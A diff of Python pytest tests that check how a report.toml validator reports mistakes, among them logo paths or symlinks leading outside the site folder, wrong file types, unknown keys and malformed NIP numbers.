+            "[letterhead]\nlogo = '../logo.png'",
+            "letterhead.logo: '../logo.png' lies outside the site's folder; copy it there",
+        ),
+        (
+            "[letterhead]\nlogo = 'logo.gif'",
+            "letterhead.logo: 'logo.gif' is no picture; name a .png, .jpg or .svg file",
+        ),
+        ("[letterhead]\nlogo = 'lambang.png'", "letterhead.logo: no file 'lambang.png' in "),
+        ("[letterhead]\nline = ['a']", "letterhead.line: unknown key; did you mean `lines`?"),
+        (SIGNED_BY, "signature.name: is missing"),
+        (SIGNED_BY + "name = 'c'\nnip = '123'", "signature.nip: '123' is no NIP; it has 18 digits"),
+        ("[letterhead", "Expected"),
+    ],
+)
+def test_a_mistake_in_report_toml_is_told_by_its_key(site_folder, text, said):
+    (site_folder / "report.toml").write_text(text, encoding="utf-8")
+    (line,) = mistakes(site_folder)
+    assert line.startswith(f"report.toml: {said}"), line
+
+
+def test_a_logo_that_a_link_leads_out_of_the_site_is_refused(site_folder, tmp_path):
+    outside = tmp_path / "outside.png"
+    outside.write_bytes(b"x")
+    (site_folder / "logo.png").symlink_to(outside)
+    (site_folder / "report.toml").write_text("[letterhead]\nlogo = 'logo.png'", encoding="utf-8")
+    (line,) = mistakes(site_folder)
+    assert "lies outside the site's folder" in line
